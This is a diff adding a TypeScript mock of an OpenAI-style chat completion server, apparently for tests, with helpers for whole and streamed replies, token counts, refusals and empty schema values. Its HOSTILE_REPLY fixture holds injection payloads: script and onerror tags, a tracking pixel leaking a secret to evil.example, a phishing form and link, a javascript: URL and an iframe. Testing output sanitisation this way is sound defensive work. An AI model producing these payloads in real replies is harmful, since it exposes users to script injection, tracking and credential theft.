@@ -1,0 +1,75 @@
+/** What the stand-in for a language model says, in OpenAI's words. */
+import type { ModelRequestJson } from './model-server.ts';
+
+export type ReplyJson = Record<string, unknown>;
+type Message = { readonly content?: string; readonly refusal?: string };
+
+/** Everything that a reply must not become: elements, scripts, pictures, links, and deeds. */
+export const HOSTILE_REPLY = [
+  'Of course. <script>document.title = "taken over"</script><img src="https://evil.example/a.png" onerror="document.title = 1">',
+  '![tracker](https://evil.example/pixel.png?q=secret) [Sign in again](https://evil.example/sign-in) [x](javascript:alert(1))',
+  '<https://evil.example/auto> <form action="https://evil.example"><input name="password"><button>Continue</button></form>',
+  '<iframe src="https://evil.example"></iframe> &lt;b&gt;entities&lt;/b&gt; data:text/html;base64,PHNjcmlwdD4=',
+  '[source]: https://evil.example/source\n\nSee [the source][source]. I have deleted your form and sent your passport to the embassy.',
+].join('\n\n');
+
+export const refusalOf = (): Message => ({ refusal: "I'm sorry, I can't help with that." });
+
+const tokensOf = (text: string): number => Math.ceil(text.length / 4);
+
+function usageOf({ messages }: ModelRequestJson, { content = '', refusal = '' }: Message): ReplyJson {
+  const prompt = messages.reduce((sum, message) => sum + tokensOf(message.content), 0);
+  const completion = tokensOf(content + refusal);
+  return { prompt_tokens: prompt, completion_tokens: completion, total_tokens: prompt + completion };
+}
+
+const head = (json: ModelRequestJson, object: string): ReplyJson => ({
+  id: 'chatcmpl-local',
+  object,
+  created: 0,
+  model: json.model,
+});
+
+export const wholeReply = (json: ModelRequestJson, message: Message): ReplyJson => ({
+  ...head(json, 'chat.completion'),
+  choices: [
+    {
+      index: 0,
+      finish_reason: 'stop',
+      message: { role: 'assistant', content: message.content ?? null, refusal: message.refusal ?? null },
+    },
+  ],
+  usage: usageOf(json, message),
+});
+
+/** The reply word by word, its end, and the chunk with the tokens, which has no choices. */
+export function chunksOf(
+  json: ModelRequestJson,
+  message: Message,
+): { words: ReplyJson[]; end: ReplyJson; usage: ReplyJson } {
+  const chunk = (delta: ReplyJson, finish: string | null = null): ReplyJson => ({
+    ...head(json, 'chat.completion.chunk'),
+    choices: [{ index: 0, delta, finish_reason: finish }],
+  });
+  const [kind, text] =
+    message.refusal === undefined ? ['content', message.content ?? ''] : ['refusal', message.refusal];
+  return {
+    words: text.split(/(?<=\s)/).map((word) => chunk({ [kind]: word })),
+    end: chunk({}, 'stop'),
+    usage: { ...head(json, 'chat.completion.chunk'), choices: [], usage: usageOf(json, message) },
+  };
+}
+
+type Schema = { type?: string | readonly string[]; enum?: readonly unknown[]; properties?: Record<string, Schema> };
+
+/** A value that fits a strict schema and says nothing. */
+export function emptyValue({ type = 'object', enum: choices, properties = {} }: Schema): unknown {
+  const types = typeof type === 'string' ? [type] : type;
+  if (types.includes('null')) return null;
+  if (choices) return choices[0];
+  if (types.includes('object'))
+    return Object.fromEntries(Object.entries(properties).map(([name, schema]) => [name, emptyValue(schema)]));
+  if (types.includes('array')) return [];
+  if (types.includes('string')) return '';
+  return types.includes('boolean') ? false : 0;
+}
